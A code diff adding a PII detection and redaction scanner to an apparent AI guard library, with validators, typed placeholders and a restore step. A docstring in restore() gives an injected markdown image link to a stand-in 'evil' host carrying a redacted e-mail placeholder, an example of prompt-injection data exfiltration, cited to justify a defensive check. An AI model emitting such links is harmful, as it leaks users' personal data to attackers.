@@ -1,0 +1,471 @@
+"""PII detection and redaction: e-mail, phone, card, IBAN, US SSN, IP, MAC, UK NINO.
+
+Each type is a compiled candidate pattern plus a validator (Luhn, mod-97, SSA area rules,
+``ipaddress``, ``phonenumbers``), so a pattern match alone is rarely a finding. Redaction
+puts typed placeholders (``<EMAIL_1>``) in place of values, numbered consistently within
+one request; with ``reversible`` the originals are kept in the request's ``ScanContext``
+(never logged, never persisted) so :func:`restore` can put them back into the output of
+that same request.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import ipaddress
+import re
+import secrets
+from collections.abc import Iterable
+from dataclasses import dataclass
+from functools import lru_cache
+from typing import Any, ClassVar
+
+import phonenumbers
+
+from aisec.core.findings import Finding, FrameworkRef, Location, Severity
+from aisec.guard._scanner import Direction, ScanContext, Scanner, ScanResult
+
+__all__ = [
+    "PII_KINDS",
+    "PiiMatch",
+    "PiiScanner",
+    "find_pii",
+    "iban_valid",
+    "luhn_valid",
+    "redact_pii",
+    "restore",
+    "ssn_valid",
+]
+
+PII_KINDS = (
+    "EMAIL",
+    "PHONE",
+    "CREDIT_CARD",
+    "IBAN",
+    "US_SSN",
+    "IP_ADDRESS",
+    "MAC_ADDRESS",
+    "UK_NINO",
+)
+
+FRAMEWORKS = (FrameworkRef("OWASP-LLM", "LLM02:2025"), FrameworkRef("ATLAS", "AML.T0057"))
+
+# Overlaps are settled by this order: a card number is not also a phone number.
+_PRIORITY = {kind: i for i, kind in enumerate(PII_KINDS)}
+_PRIORITY["PHONE"] = len(PII_KINDS)  # the loosest pattern yields to every other
+
+_SEVERITY = {
+    "EMAIL": Severity.MEDIUM,
+    "PHONE": Severity.MEDIUM,
+    "CREDIT_CARD": Severity.HIGH,
+    "IBAN": Severity.HIGH,
+    "US_SSN": Severity.HIGH,
+    "IP_ADDRESS": Severity.LOW,
+    "MAC_ADDRESS": Severity.LOW,
+    "UK_NINO": Severity.HIGH,
+}
+
+
+@dataclass(frozen=True, slots=True)
+class PiiMatch:
+    """One PII value found in a text: its type, span and confidence in [0, 1]."""
+
+    kind: str
+    start: int
+    end: int
+    score: float
+
+
+# --- validators --------------------------------------------------------------------------
+
+
+def luhn_valid(digits: str) -> bool:
+    """True when ``digits`` (only 0-9) passes the Luhn checksum."""
+    if not digits.isdigit() or not digits.isascii():
+        return False
+    total = 0
+    for i, ch in enumerate(reversed(digits)):
+        d = ord(ch) - 48
+        if i % 2:
+            d *= 2
+            if d > 9:
+                d -= 9
+        total += d
+    return total % 10 == 0
+
+
+# ISO 13616 lengths by country (SWIFT IBAN registry).
+_IBAN_LENGTHS = {
+    "AD": 24, "AE": 23, "AL": 28, "AT": 20, "AZ": 28, "BA": 20, "BE": 16, "BG": 22, "BH": 22,
+    "BI": 27, "BR": 29, "BY": 28, "CH": 21, "CR": 22, "CY": 28, "CZ": 24, "DE": 22, "DJ": 27,
+    "DK": 18, "DO": 28, "EE": 20, "EG": 29, "ES": 24, "FI": 18, "FK": 18, "FO": 18, "FR": 27,
+    "GB": 22, "GE": 22, "GI": 23, "GL": 18, "GR": 27, "GT": 28, "HR": 21, "HU": 28, "IE": 22,
+    "IL": 23, "IQ": 23, "IS": 26, "IT": 27, "JO": 30, "KW": 30, "KZ": 20, "LB": 28, "LC": 32,
+    "LI": 21, "LT": 20, "LU": 20, "LV": 21, "LY": 25, "MC": 27, "MD": 24, "ME": 22, "MK": 19,
+    "MN": 20, "MR": 27, "MT": 31, "MU": 30, "NI": 28, "NL": 18, "NO": 15, "OM": 23, "PK": 24,
+    "PL": 28, "PS": 29, "PT": 25, "QA": 29, "RO": 24, "RS": 22, "RU": 33, "SA": 24, "SC": 31,
+    "SD": 18, "SE": 24, "SI": 19, "SK": 24, "SM": 27, "SO": 23, "ST": 25, "SV": 28, "TL": 23,
+    "TN": 24, "TR": 26, "UA": 29, "VA": 22, "VG": 24, "XK": 20, "YE": 30,
+}  # fmt: skip
+
+
+def iban_valid(iban: str) -> bool:
+    """True when ``iban`` (spaces allowed, any case) has its country's length and mod-97 == 1."""
+    compact = iban.replace(" ", "").upper()
+    if not compact.isascii() or not compact.isalnum():
+        return False
+    if _IBAN_LENGTHS.get(compact[:2]) != len(compact) or not compact[2:4].isdigit():
+        return False
+    rearranged = compact[4:] + compact[:4]
+    number = "".join(str(int(ch, 36)) for ch in rearranged)
+    return int(number) % 97 == 1
+
+
+def ssn_valid(area: str, group: str, serial: str) -> bool:
+    """SSA rules: no area 000, 666 or 9xx; no group 00; no serial 0000; no famous samples."""
+    if area in ("000", "666") or area[0] == "9" or group == "00" or serial == "0000":
+        return False
+    return f"{area}{group}{serial}" not in ("078051120", "219099999", "123456789")
+
+
+# --- candidate patterns -----------------------------------------------------------------
+
+_EMAIL = re.compile(
+    r"(?<![\w.%+-])[A-Za-z0-9](?:[A-Za-z0-9._%+-]{0,63})@"
+    r"(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,24}(?![\w-])"
+)
+_CARD = re.compile(r"(?<![\w.-])\d(?:[ -]?\d){12,18}(?![\w-]|\.\d)")
+_IBAN = re.compile(
+    r"(?<![A-Za-z0-9])[A-Za-z]{2}\d{2}(?: ?[A-Za-z0-9]{4}){2,7}(?: ?[A-Za-z0-9]{1,3})?"
+    r"(?![A-Za-z0-9])"
+)
+_SSN = re.compile(r"(?<![\w.-])(\d{3})([- .])(\d{2})\2(\d{4})(?![\w-]|\.\d)")
+_SSN_BARE = re.compile(r"(?<![\w.-])(\d{3})(\d{2})(\d{4})(?![\w-]|\.\d)")
+_SSN_CONTEXT = re.compile(r"(?i)\b(?:ssn|social\s+security|soc\.?\s*sec|taxpayer|tin)\b")
+_IPV4 = re.compile(
+    r"(?<![\w.])(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}"
+    r"(?![\w]|\.\d)"
+)
+_IPV6 = re.compile(r"(?<![\w:.])(?:[0-9A-Fa-f]{0,4}:){2,7}(?:[0-9A-Fa-f]{1,4}|:|\d+(?:\.\d+){3})")
+_MAC = re.compile(
+    r"(?<![\w:.-])(?:[0-9A-Fa-f]{2}([:-])(?:[0-9A-Fa-f]{2}\1){4}[0-9A-Fa-f]{2}"
+    r"|[0-9A-Fa-f]{4}\.[0-9A-Fa-f]{4}\.[0-9A-Fa-f]{4})(?![\w:.-])"
+)
+_NINO = re.compile(
+    r"(?<![A-Za-z0-9])(?!BG|GB|NK|KN|TN|NT|ZZ)[A-CEGHJ-PR-TW-Z][A-CEGHJ-NPR-TW-Z]"
+    r" ?\d{2} ?\d{2} ?\d{2} ?[A-D](?![A-Za-z0-9])"
+)
+_NINO_CONTEXT = re.compile(r"(?i)national\s+insurance|\bnino\b|\bni\s+(?:number|no)\b")
+# A phone number: optional +CC, optional (area), then digit groups joined by one separator,
+# optional extension. Digit counts are checked after the match.
+_PHONE = re.compile(
+    r"(?<![\w+.-])(?:\+\d{1,3}[ .-]?)?(?:\(\d{1,5}\)[ .-]?)?\d{1,12}(?:[ .-]\d{1,10}){0,5}"
+    r"(?:[ ]?(?:x|ext\.?|extension)[ ]?\d{1,6})?(?![\w]|[.-]\d)"
+)
+_EXTENSION = re.compile(r"[ ]?(?:x|ext\.?|extension)[ ]?\d{1,6}$")
+_PHONE_CONTEXT = re.compile(
+    r"(?i)\b(?:phone|tel|telephone|mobile|cell|cellphone|fax|call|calling|reach|contact|"
+    r"dial|ring|whatsapp|sms|text|number|office|landline|hotline|answering)\b"
+)
+_NOT_PHONE_CONTEXT = re.compile(
+    r"(?i)(?:\b(?:order|invoice|ref|reference|tracking|account|acct|id|serial|version|isbn|"
+    r"sku|po|ticket|case|build|zip|postcode|postal|apt|apartment|suite|unit|room|no)\b|#)[\s:#.]*$"
+)
+_ID_CONTEXT = re.compile(
+    r"(?i)\b(?:licen[cs]e|passport|permit|ssn|social\s+security|account|tax|vat|routing|"
+    r"iban|card|policy|member|employee|student|patient|customer)\b"
+)
+_STRONG_PHONE = re.compile(r"(?i)\b(?:phone|tel|telephone|mobile|cell|fax|call|whatsapp|sms)\b")
+_DATE = re.compile(r"\d{4}[-./]\d{1,2}[-./]\d{1,2}|\d{1,2}[-./]\d{1,2}[-./]\d{4}")
+_DIGIT_RUN = re.compile(r"\d{6}|\d[ .()-]{1,2}\d")
+
+_CARD_PREFIXES = re.compile(
+    r"4|5[1-5]|2(?:2[2-9]|[3-6]\d|7[01]|720)|3[47]|3(?:0[0-5]|[68])|6(?:011|4[4-9]|5)|35(?:2[89]|[3-8])|62"
+)
+_PHONE_REGIONS = ("US", "GB", "DE", "FR", "NL", "IN", "AU", "CA", "BR", "IL")
+
+
+def _card_ok(raw: str) -> bool:
+    seps = {ch for ch in raw if not ch.isdigit()}
+    if len(seps) > 1:
+        return False
+    digits = raw.replace(" ", "").replace("-", "")
+    if not 13 <= len(digits) <= 19 or len(set(digits)) < 3:
+        return False
+    return _CARD_PREFIXES.match(digits) is not None and luhn_valid(digits)
+
+
+@lru_cache(maxsize=4096)
+def _phone_score(raw: str) -> tuple[bool, bool]:
+    """(valid somewhere, possible somewhere) per ``phonenumbers``; cached for repeats."""
+    number = _EXTENSION.sub("", raw)
+    regions: Iterable[str | None] = (None,) if number.startswith("+") else _PHONE_REGIONS
+    possible = False
+    for region in regions:
+        try:
+            parsed = phonenumbers.parse(number, region)
+        except phonenumbers.NumberParseException:
+            continue
+        if phonenumbers.is_valid_number(parsed):
+            return True, True
+        possible = possible or phonenumbers.is_possible_number(parsed)
+    return False, possible
+
+
+def _phone_matches(text: str) -> Iterable[PiiMatch]:
+    for m in _PHONE.finditer(text):
+        raw = m.group()
+        core = _EXTENSION.sub("", raw)
+        ndigits = sum(ch.isdigit() for ch in core)
+        if not 7 <= ndigits <= 15 or _DATE.match(core) or text[m.end() : m.end() + 1] == ":":
+            continue  # dates and times are digit groups too
+        start = m.start()
+        before = text[max(0, start - 40) : start]
+        if _NOT_PHONE_CONTEXT.search(before) or (
+            _ID_CONTEXT.search(before) and not _STRONG_PHONE.search(before)
+        ):
+            continue  # an order, account or document number, not a phone
+        after = text[m.end() : m.end() + 20]
+        context = _PHONE_CONTEXT.search(before) or _PHONE_CONTEXT.search(after)
+        has_seps = ndigits != len(core) or core.startswith("+")
+        if not has_seps and not context and ndigits not in (10, 11):
+            continue  # a bare digit run is an ID more often than a phone number
+        valid, possible = _phone_score(raw)
+        if valid:
+            score = 0.9 if context or has_seps else 0.6
+        elif possible and context:
+            score = 0.7
+        elif context and has_seps:
+            score = 0.55
+        else:
+            continue
+        yield PiiMatch("PHONE", start, m.end(), score)
+
+
+def _iban_matches(text: str) -> Iterable[PiiMatch]:
+    for m in _IBAN.finditer(text):
+        raw = m.group()
+        # the pattern may have swallowed a following short word; drop trailing groups
+        while raw:
+            if iban_valid(raw):
+                yield PiiMatch("IBAN", m.start(), m.start() + len(raw), 0.95)
+                break
+            cut = raw.rfind(" ")
+            if cut <= 4:
+                break
+            raw = raw[:cut]
+
+
+def _ip_matches(text: str) -> Iterable[PiiMatch]:
+    if "." in text:
+        for m in _IPV4.finditer(text):
+            yield PiiMatch("IP_ADDRESS", m.start(), m.end(), 0.85)
+    if "::" in text or text.count(":") >= 5:
+        for m in _IPV6.finditer(text):
+            raw = m.group()
+            if raw.count(":") < 3 and raw != "::1":
+                continue
+            try:
+                ipaddress.IPv6Address(raw)
+            except ValueError:
+                continue
+            yield PiiMatch("IP_ADDRESS", m.start(), m.end(), 0.85)
+
+
+def _ssn_matches(text: str) -> Iterable[PiiMatch]:
+    context = _SSN_CONTEXT.search(text) is not None
+    for m in _SSN.finditer(text):
+        # dashes are how SSNs are written; "680 36 4022" is as likely a house number
+        if (m.group(2) == "-" or context) and ssn_valid(m.group(1), m.group(3), m.group(4)):
+            yield PiiMatch("US_SSN", m.start(), m.end(), 0.85)
+    if context:
+        for m in _SSN_BARE.finditer(text):
+            if ssn_valid(m.group(1), m.group(2), m.group(3)):
+                yield PiiMatch("US_SSN", m.start(), m.end(), 0.7)
+
+
+def _raw_matches(text: str, kinds: frozenset[str]) -> Iterable[PiiMatch]:
+    if "EMAIL" in kinds and "@" in text:
+        for m in _EMAIL.finditer(text):
+            yield PiiMatch("EMAIL", m.start(), m.end(), 0.95)
+    has_digits = _DIGIT_RUN.search(text) is not None
+    if has_digits:
+        if "CREDIT_CARD" in kinds:
+            for m in _CARD.finditer(text):
+                if _card_ok(m.group()):
+                    yield PiiMatch("CREDIT_CARD", m.start(), m.end(), 0.9)
+        if "US_SSN" in kinds:
+            yield from _ssn_matches(text)
+        if "PHONE" in kinds:
+            yield from _phone_matches(text)
+    if "IBAN" in kinds:
+        yield from _iban_matches(text)
+    if "IP_ADDRESS" in kinds:
+        yield from _ip_matches(text)
+    if "MAC_ADDRESS" in kinds and (":" in text or "-" in text or "." in text):
+        for m in _MAC.finditer(text):
+            yield PiiMatch("MAC_ADDRESS", m.start(), m.end(), 0.8)
+    if "UK_NINO" in kinds and _NINO_CONTEXT.search(text):
+        for m in _NINO.finditer(text):
+            yield PiiMatch("UK_NINO", m.start(), m.end(), 0.85)
+
+
+_ALL = frozenset(PII_KINDS)
+
+
+def find_pii(
+    text: str, kinds: Iterable[str] | None = None, min_score: float = 0.5
+) -> list[PiiMatch]:
+    """All PII in ``text`` with score >= ``min_score``, sorted by position, not overlapping."""
+    wanted = _ALL if kinds is None else frozenset(kinds)
+    found = sorted(
+        (m for m in _raw_matches(text, wanted) if m.score >= min_score),
+        key=lambda m: (_PRIORITY[m.kind], -(m.end - m.start), m.start),
+    )
+    taken: list[PiiMatch] = []
+    for m in found:
+        if all(m.end <= t.start or m.start >= t.end for t in taken):
+            taken.append(m)
+    taken.sort(key=lambda m: m.start)
+    return taken
+
+
+# --- redaction and the per-request vault ---------------------------------------------------
+
+_VAULT_KEY = "guard.pii.vault"
+
+
+class _Vault:
+    """Placeholders of one request. Holds raw values only when reversible; its repr hides them."""
+
+    __slots__ = ("_by_digest", "_counters", "_originals", "_salt")
+
+    def __init__(self) -> None:
+        self._salt = secrets.token_bytes(16)
+        self._by_digest: dict[bytes, str] = {}
+        self._counters: dict[str, int] = {}
+        self._originals: dict[str, str] = {}
+
+    def __repr__(self) -> str:
+        return f"<pii vault: {len(self._by_digest)} placeholders>"
+
+    def placeholder(self, kind: str, value: str, keep: bool) -> str:
+        digest = hashlib.blake2b(
+            f"{kind}\0{value}".encode(), key=self._salt, digest_size=16
+        ).digest()
+        name = self._by_digest.get(digest)
+        if name is None:
+            n = self._counters.get(kind, 0) + 1
+            self._counters[kind] = n
+            name = f"<{kind}_{n}>"
+            self._by_digest[digest] = name
+        if keep:
+            self._originals[name] = value
+        return name
+
+    def original(self, placeholder: str) -> str | None:
+        return self._originals.get(placeholder)
+
+
+def _vault(ctx: ScanContext) -> _Vault:
+    vault = ctx.state.get(_VAULT_KEY)
+    if not isinstance(vault, _Vault):
+        vault = _Vault()
+        ctx.state[_VAULT_KEY] = vault
+    return vault
+
+
+def redact_pii(
+    text: str, matches: list[PiiMatch], ctx: ScanContext, reversible: bool = False
+) -> str:
+    """Replace each match with its typed placeholder, numbered consistently per request."""
+    vault = _vault(ctx)
+    out: list[str] = []
+    pos = 0
+    for m in matches:
+        out.append(text[pos : m.start])
+        out.append(vault.placeholder(m.kind, text[m.start : m.end], reversible))
+        pos = m.end
+    out.append(text[pos:])
+    return "".join(out)
+
+
+_PLACEHOLDER = re.compile(r"<(?:" + "|".join(PII_KINDS) + r")_\d{1,6}>")
+_URLISH = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]{1,15}:)?//\S+|\]\(\S+?\)|\b(?:src|href)\s*=\s*\S+")
+
+
+def restore(text: str, ctx: ScanContext) -> str:
+    """Put back the originals of placeholders made reversibly in this request.
+
+    Placeholders inside a URL or link target stay as they are: restoring them there would
+    turn an injected ``![](https://evil/?q=<EMAIL_1>)`` into exfiltration.
+    """
+    vault = ctx.state.get(_VAULT_KEY)
+    if not isinstance(vault, _Vault) or "<" not in text:
+        return text
+    blocked = [(m.start(), m.end()) for m in _URLISH.finditer(text)]
+
+    def _swap(m: re.Match[str]) -> str:
+        if any(s <= m.start() < e for s, e in blocked):
+            return m.group()
+        original = vault.original(m.group())
+        return m.group() if original is None else original
+
+    return _PLACEHOLDER.sub(_swap, text)
+
+
+def _mask(kind: str, value: str) -> str:
+    if kind == "EMAIL":
+        return "***@" + value.rpartition("@")[2]
+    if kind in ("IP_ADDRESS", "MAC_ADDRESS"):
+        return f"{kind.lower()} ({len(value)} chars)"
+    digits = [ch for ch in value if ch.isalnum()]
+    return f"***{''.join(digits[-2:])} ({len(digits)} chars)"
+
+
+class PiiScanner(Scanner):
+    """Flags PII; in ``redact`` mode replaces it with typed placeholders.
+
+    Options: ``kinds`` (subset of :data:`PII_KINDS`), ``reversible`` (keep originals in the
+    request so :func:`restore` can put them back in the output).
+    """
+
+    name: ClassVar[str] = "pii"
+    directions: ClassVar[frozenset[Direction]] = frozenset(
+        {Direction.INPUT, Direction.OUTPUT, Direction.DOCUMENT, Direction.TOOL_RESULT}
+    )
+    supports_redact: ClassVar[bool] = True
+
+    def __init__(self, threshold: float | None = None, **options: Any) -> None:
+        super().__init__(threshold, **options)
+        kinds = options.get("kinds")
+        self.kinds = _ALL if kinds is None else frozenset(str(k).upper() for k in kinds)
+        unknown = self.kinds - _ALL
+        if unknown:
+            from aisec.core.errors import PolicyError
+
+            raise PolicyError(
+                f"guard scanner pii: unknown kinds {sorted(unknown)}: expected some of "
+                + ", ".join(PII_KINDS)
+            )
+        self.reversible = bool(options.get("reversible", False))
+
+    def scan(self, text: str, ctx: ScanContext) -> ScanResult:
+        matches = find_pii(text, self.kinds)
+        if not matches:
+            return ScanResult(0.0)
+        where = "in model output" if ctx.direction is Direction.OUTPUT else "in text"
+        findings = tuple(
+            Finding(
+                rule_id=f"guard.pii.{m.kind.lower()}",
+                title=f"{m.kind.replace('_', ' ').lower()} {where}",
+                severity=_SEVERITY[m.kind],
+                asset=ctx.route or "",
+                location=Location(offset=m.start, pointer=ctx.direction.value),
+                evidence=_mask(m.kind, text[m.start : m.end]),
+                frameworks=FRAMEWORKS,
+                remediation="Remove the personal data or enable redaction for this scanner.",
+            )
+            for m in matches
+        )
+        redacted = redact_pii(text, matches, ctx, self.reversible)
+        return ScanResult(max(m.score for m in matches), findings, redacted)
